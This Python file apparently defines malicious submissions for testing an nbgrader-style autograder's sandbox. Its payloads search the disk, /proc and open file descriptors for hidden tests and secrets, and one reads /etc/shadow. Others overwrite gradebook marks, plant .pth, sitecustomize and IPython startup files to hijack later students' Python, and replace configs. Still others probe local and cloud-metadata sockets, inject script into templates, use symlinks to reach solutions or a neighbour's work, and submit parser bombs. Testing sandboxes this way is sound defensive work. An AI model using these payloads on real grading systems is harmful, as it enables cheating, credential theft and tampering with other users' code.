"""Attacks by files and sockets: reading secrets, writing marks, leaving things for others."""

import os
from pathlib import Path

from attack import LEFT_BEHIND, PORT, Attack, doing, returning

WHERE = """
from pathlib import Path
import glob, sqlite3
course = Path(open("where.txt").read())
"""
"""What the worst of attackers knows already: where the course is on the grader's machine."""
SEARCH = (
    WHERE
    + """
import time
def show(path):
    try:
        text = open(path, "rb").read(5_000_000).decode(errors="replace")
    except OSError:
        return
    if secret in text:
        print("FOUND", path, text[:20_000])
def search():
    for path in [*course.rglob("*.ipynb"), *course.rglob("*.db"),
                 *Path.cwd().parent.rglob("*.ipynb"),
                 *Path("..").resolve().parent.glob("**/*.ipynb")]:
        show(path)
    end = time.time() + 0.8
    for top in ("/tmp", "/home", "/root", "/srv", "/var", "/opt", "/mnt", "/work", "/"):
        for folder, folders, names in os.walk(top):
            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "lib")]
            for name in names:
                if name.endswith((".ipynb", ".db", "course_key", ".py")):
                    show(os.path.join(folder, name))
            if time.time() > end:
                return
"""
)
PROC = """
def look(pattern):
    import glob
    for path in glob.glob(pattern):
        try:
            text = open(path, "rb").read(100_000).decode(errors="replace")
        except OSError:
            continue
        if secret in text or "gradebook" in text:
            print("FOUND", path, text[:20_000])
def search():
    for name in ("environ", "cmdline", "maps", "mountinfo", "fd/*", "root/etc/shadow"):
        look(f"/proc/[0-9]*/{name}")
    for fd in range(3, 200):
        try:
            os.lseek(fd, 0, 0)
            text = os.read(fd, 1_000_000).decode(errors="replace")
        except OSError:
            continue
        print("FOUND" if secret in text else fd, text if secret in text else "")
    print({name: value for name, value in os.environ.items() if "grader" in value})
"""
GRADEBOOK = (
    WHERE
    + """
def write_marks():
    for path in {course / "gradebook.db", *map(Path, glob.glob("../../../gradebook.db"))}:
        try:
            base = sqlite3.connect(path, timeout=1)
            base.execute("update grade set auto_score=10, manual_score=10")
            base.commit()
        except sqlite3.Error as error:
            print(error)
"""
)
VANDAL = (
    WHERE
    + f"""
def write(path):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("import builtins; builtins.attack_was_here = True  # {LEFT_BEHIND}")
        print("wrote", path)
    except OSError as error:
        print(error)
def vandalise():
    for folder in ("source/vault", "release/vault", "submitted/other/vault", "", ".autograder",
                   "submitted/attacker/vault"):
        write(course / folder / "{LEFT_BEHIND}")
        write(course / folder / "replacing.py")
    write(course / "nbgrader_config.py")
"""
)
LEAVE = f"""
import site, sysconfig
from pathlib import Path
HARM = "import builtins, numpy; builtins.{LEFT_BEHIND} = True; numpy.sum = lambda *args: 1e9"
home = Path.home()
places = ["/tmp", "/dev/shm", "/var/tmp", "/tmp/work", home, os.getcwd(), "/", "/sandbox",
          home / ".ipython/profile_default/startup", home / ".config/matplotlib",
          os.environ.get("MPLCONFIGDIR", "/tmp"), os.environ.get("IPYTHONDIR", "/tmp"),
          os.environ.get("IPYTHONDIR", "/tmp") + "/profile_default/startup",
          site.getusersitepackages(), sysconfig.get_path("purelib")]
for place in map(Path, places):
    for name in ("{LEFT_BEHIND}.py", "{LEFT_BEHIND}.pth", "replacing.py", "matplotlibrc"):
        try:
            place.mkdir(parents=True, exist_ok=True)
            (place / name).write_text(HARM)
        except OSError:
            pass
"""
NETWORK = f"""
import socket
def call(family, address, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(family, kind) as out:
            out.settimeout(0.3)
            out.connect(address)
            out.send(b"hello from an attack")
            print("REACHED", address)
    except OSError as error:
        print(error)
for port in ({PORT}, 22, 80, 8888):
    call(socket.AF_INET, ("127.0.0.1", port))
call(socket.AF_INET6, ("::1", {PORT}))
call(socket.AF_UNIX, "\\0{LEFT_BEHIND}")
call(socket.AF_INET, ("8.8.8.8", 53), socket.SOCK_DGRAM)
call(socket.AF_INET, ("169.254.169.254", 80))
try:
    call(40, (2, {PORT}))
except Exception as error:
    print(error)
try:
    socket.setdefaulttimeout(0.3)
    print(socket.gethostbyname("localhost.example.org"))
except OSError as error:
    print(error)
"""
HARM = "import builtins\nbuiltins.attack_was_here = True\nraise SystemExit('taken over')\n"
MODULES = (
    "numpy",
    "autograder",
    "msgpack",
    "sitecustomize",
    "usercustomize",
    "json",
    "replacing",
    "nbformat",
    "child",
    "frames",
    "plain",
    "conftest",
)
CONFIGS = {
    "nbgrader_config.py": HARM,
    "jupyter_config.py": HARM,
    "jupyter_nbconvert_config.py": HARM,
    "ipython_config.py": HARM,
    "feedback.html.j2": "<script>alert('template')</script>",
    "classic/index.html.j2": "<script>alert('template')</script>",
    "base.html.j2": "<script>alert('template')</script>",
    ".ipython/profile_default/startup/a.py": HARM,
    "x.pth": HARM,
}


def tell_where(folder: Path, root: Path) -> None:
    (folder / "where.txt").write_text(str(root))


def link_to_source(folder: Path, root: Path) -> None:
    (folder / "vault.ipynb").unlink()
    (folder / "vault.ipynb").symlink_to(root / "source" / "vault" / "vault.ipynb")


def link_to_neighbour(folder: Path, root: Path) -> None:
    (folder / "vault.ipynb").unlink()
    (folder / "vault.ipynb").symlink_to(root / "submitted" / "honest_0" / "vault" / "vault.ipynb")


def link_beside(folder: Path, root: Path) -> None:
    (folder / "data").symlink_to(root / "source")
    (folder / "key.txt").symlink_to(root / "source" / "vault" / "vault.ipynb")


def folder_as_notebook(folder: Path, root: Path) -> None:
    (folder / "vault.ipynb").unlink()
    (folder / "vault.ipynb").mkdir()


def folders_as_modules(folder: Path, root: Path) -> None:
    for name in ("replacing.py", "numpy.py", "feedback.html"):
        (folder / name).unlink(missing_ok=True)
        (folder / name).mkdir()
        (folder / name / "__init__.py").write_text(HARM)


def pipe(folder: Path, root: Path) -> None:
    os.mkfifo(folder / "data.csv")


def odd_names(folder: Path, root: Path) -> None:
    for name in (
        b"\xff\xfe.py",
        b"a\nb.py",
        b"<script>alert(1)<.py",
        b"[red]x[green].py",
        b"\x1b[2J.py",
    ):
        (Path(os.fsdecode(os.fsencode(folder) + b"/" + name))).write_text("pass")


def odd_notebook_name(folder: Path, root: Path) -> None:
    (folder / "vault.ipynb").rename(Path(os.fsdecode(os.fsencode(folder) + b"/\xff<script>.ipynb")))
    (folder / os.fsdecode(b"\xff<b>.ipynb")).write_text("{}")


def bomb_of_json(folder: Path, root: Path) -> None:
    (folder / "vault.ipynb").write_text('{"cells": ' + "[" * 500_000)


def number_bomb(folder: Path, root: Path) -> None:
    (folder / "vault.ipynb").write_text('{"cells": [], "nbformat": ' + "9" * 3_000_000 + "}")


ATTACKS = [
    Attack(
        "search_files",
        "searches the disk for the tests",
        SEARCH,
        doing("search()\nreturn 0.0"),
        place=tell_where,
    ),
    Attack(
        "search_processes",
        "searches /proc, the environment and open files",
        PROC + "search()\n",
        doing("search()\nreturn 0.0"),
    ),
    Attack(
        "write_gradebook",
        "writes marks into the gradebook",
        GRADEBOOK,
        doing("write_marks()\nreturn 0.0"),
        last="write_marks()",
        place=tell_where,
    ),
    Attack(
        "vandal",
        "writes into the course",
        VANDAL,
        doing("vandalise()\nreturn 0.0"),
        place=tell_where,
    ),
    Attack("leave_files", "leaves files that the next student's Python would run", LEAVE),
    Attack("network", "calls this machine and others", NETWORK, last=NETWORK),
    Attack(
        "own_modules",
        "brings modules that others import",
        solutions=returning("0.0"),
        files={f"{name}.py": HARM for name in MODULES},
    ),
    Attack("own_configuration", "brings configuration and templates", files=CONFIGS),
    Attack(
        "link_to_source", "hands in a link to the solution", place=link_to_source, gradable=False
    ),
    Attack(
        "link_to_neighbour",
        "hands in a link to somebody else's work",
        place=link_to_neighbour,
        gradable=False,
    ),
    Attack(
        "links_beside",
        "brings links to what it would like to read",
        place=link_beside,
        gradable=False,
    ),
    Attack("folder_as_notebook", "hands in a folder", place=folder_as_notebook, gradable=False),
    Attack(
        "folders_as_modules",
        "brings folders named as files",
        place=folders_as_modules,
        gradable=False,
    ),
    Attack("pipe", "brings a pipe that nobody writes to", place=pipe, gradable=False),
    Attack("odd_names", "brings files whose names are no text", place=odd_names),
    Attack(
        "odd_notebook_name", "hands in a notebook whose name is no text", place=odd_notebook_name
    ),
    Attack("json_bomb", "hands in brackets", place=bomb_of_json, gradable=False),
    Attack("number_bomb", "hands in one long number", place=number_bomb, gradable=False),
]
